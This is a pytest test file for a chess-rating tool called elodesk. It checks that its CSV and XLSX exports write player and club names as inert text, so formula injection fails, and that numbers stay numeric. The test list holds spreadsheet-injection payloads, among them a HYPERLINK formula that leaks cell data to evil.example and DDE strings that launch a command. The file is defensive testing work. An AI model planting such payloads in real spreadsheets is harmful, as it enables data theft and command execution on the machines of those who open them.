"""Spreadsheets elodesk writes keep a player's or club's text as text: no formula injection.

A name such as ``=HYPERLINK("http://…")`` typed into a club database must reach the ranking
export (and the players sheet) as the text it is: a string cell with Excel's quote prefix in a
workbook, a cell quoted by an apostrophe in CSV. Numbers stay numbers (a change of -12 is the
number -12, not the text "'-12").
"""

from __future__ import annotations

import csv
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from elodesk.cli import main
from elodesk.formats import players_spreadsheet
from elodesk.formats.records import FRBE, PlayerRecord
from elodesk.formats.spreadsheet_writer import write_table
from elodesk.store.db import open_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Clic")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def stored(text: str) -> str:
    """A text as a workbook gives it back: XML reads a carriage return as a line feed."""
    return text.replace("\r", "\n")


def csv_cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def formulas_in(path) -> list[str]:
    """The formula elements of every sheet of a workbook, as stored."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def test_a_table_keeps_formula_text_as_text_and_numbers_as_numbers_in_csv(tmp_path):
    path = tmp_path / "table.csv"
    write_table(path, ["nom", "club", "variation"],
                [[name, name, -12] for name in HOSTILE] + [["Dupont, Jean", "-", 3.5]], "Table")
    _header, *rows = csv_cells(path)
    assert [row[0] for row in rows[:-1]] == ["'" + name for name in HOSTILE]
    assert [row[2] for row in rows] == ["-12"] * len(HOSTILE) + ["3.5"]
    assert rows[-1] == ["Dupont, Jean", "'-", "3.5"]


def test_a_table_keeps_formula_text_as_text_and_numbers_as_numbers_in_xlsx(tmp_path):
    path = tmp_path / "table.xlsx"
    write_table(path, ["nom", "variation", "date"], [[name, -12, date(2024, 3, 1)] for name in HOSTILE],
                "Table", title="=1+1")
    assert formulas_in(path) == []
    sheet = load_workbook(path).active
    title, _header, *rows = list(sheet.iter_rows())
    assert (title[0].value, title[0].data_type, title[0].quotePrefix) == ("=1+1", "s", True)
    for (name, change, day), text in zip(rows, HOSTILE, strict=True):
        assert (name.value, name.data_type, name.quotePrefix) == (stored(text), "s", True)
        assert (change.value, change.data_type) == (-12, "n")
        assert day.value.date() == date(2024, 3, 1)


@pytest.fixture
def hostile_club(demo_db):
    """The demo club with its best Belgian-rated players renamed to formulas, one club too."""
    db = open_db(demo_db)
    ids = [pid for (pid,) in db.execute(
        "SELECT player_id FROM ratings WHERE system = 'frbe' ORDER BY json_extract(state, '$.rating') DESC "
        "LIMIT ?", [len(HOSTILE)])]
    for pid, name in zip(ids, HOSTILE, strict=True):
        db.execute("UPDATE players SET name = ?, club = ? WHERE id = ?", [name, name, pid])
    db.conn.commit()
    db.conn.close()
    return demo_db


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_ranking_export_writes_formula_names_as_text(hostile_club, tmp_path, kind):
    target = tmp_path / f"classement.{kind}"
    assert main(["--db", str(hostile_club), "ranking", "--system", "frbe", f"--{kind}", str(target)]) == 0
    if kind == "csv":
        header, *rows = csv_cells(target)
        names = [row[header.index("nom")] for row in rows]
        clubs = {row[header.index("club")] for row in rows}
        changes = [row[header.index("écart")] for row in rows]
        assert {"'" + name for name in HOSTILE} <= set(names) & clubs
        assert all(not c or c.lstrip("-").isdecimal() for c in changes)  # numbers: never quoted
        assert any(c.startswith("-") for c in changes)
        return
    assert formulas_in(target) == []
    sheet = load_workbook(target).active
    _title, header, *rows = list(sheet.iter_rows())
    column = {cell.value: i for i, cell in enumerate(header)}
    names = {row[column["nom"]].value: row[column["nom"]] for row in rows}
    for text in map(stored, HOSTILE):
        assert (names[text].data_type, names[text].quotePrefix) == ("s", True)
    changes = [row[column["écart"]] for row in rows if row[column["écart"]].value is not None]
    assert all(cell.data_type == "n" for cell in changes)
    assert any(cell.value < 0 for cell in changes)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_players_sheet_writes_formula_names_as_text_and_reads_them_back(tmp_path, suffix):
    # "Last, First" is written in two columns, each quoted when it looks like a formula.
    names = [f"{text.replace(',', ';')}, @{text[::-1].replace(',', ';')}" for text in HOSTILE if text[0] not in "\t\r"]
    players = [PlayerRecord(ref=str(n), name=name, club=name.split(",")[0], ratings={FRBE: 1500 + n})
               for n, name in enumerate(names, 1)]
    path = tmp_path / f"joueurs{suffix}"
    players_spreadsheet.write(path, players)
    if suffix == ".xlsx":
        assert formulas_in(path) == []
    else:
        header, *rows = csv_cells(path)
        assert all(row[1][0] == row[2][0] == row[header.index("Club")][0] == "'" for row in rows)
    read = players_spreadsheet.read(path)
    assert [(p.name, p.club, p.ratings) for p in read] == [(p.name, p.club, p.ratings) for p in players]
